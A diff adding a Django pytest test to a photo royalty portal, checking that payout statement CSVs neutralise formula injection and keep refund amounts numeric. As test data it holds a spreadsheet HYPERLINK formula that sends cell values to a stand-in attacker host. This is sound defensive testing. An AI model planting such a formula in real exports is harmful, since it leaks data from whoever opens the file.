@@ -554,3 +554,32 @@ def test_the_demo_step_gives_demo_contributors_a_bank_account_and_records_paid_l
     assert royalty_balance(contributor_id=hanako.pk) == 36_000
     assert RoyaltyEntry.objects.filter(order_line=line).count() == 1
     assert "  exists  bank account for contributor@demo.stockdata.jp" in lines
+
+
+@pages
+@pytest.mark.django_db
+def test_csv_injection_statement_csv_defuses_a_formula_title_and_keeps_negative_amounts_numbers(client):
+    import csv
+    import io
+
+    from catalog.models import Dataset
+    from contributors.tests.factories import price_for_royalty
+
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'
+    alice = contributor_with_bank()
+    dataset = Dataset.objects.create(
+        slug="csv-injection", title_en=hyperlink, title_ja=hyperlink, status=Dataset.Status.PUBLISHED
+    )
+    royalties_record_sale(
+        line=paid_line(version_with_photos({alice: 1}, dataset=dataset), price=price_for_royalty(100_000))
+    )
+    refunded = credit(alice, 11_111)
+    royalties_reverse_sale(line=refunded)
+    payout = Payout.objects.get(run=payout_run_start(period=this_period()))
+    client.force_login(alice)
+    text = client.get(f"/portal/earnings/payouts/{payout.pk}/csv/").content.decode("utf-8-sig")
+    sales = list(csv.reader(io.StringIO(text.split("\r\n\r\n", 1)[1])))
+    assert sales[0] == ["date", "kind", "dataset", "version", "edition", "your_photos", "amount"]
+    rows = {(row[1], row[6]): row[2] for row in sales[1:]}
+    assert rows[("sale", "100000")] == "'" + hyperlink
+    assert rows[("refund", "-11111")].startswith("Royalty set")  # a negative amount stays a number
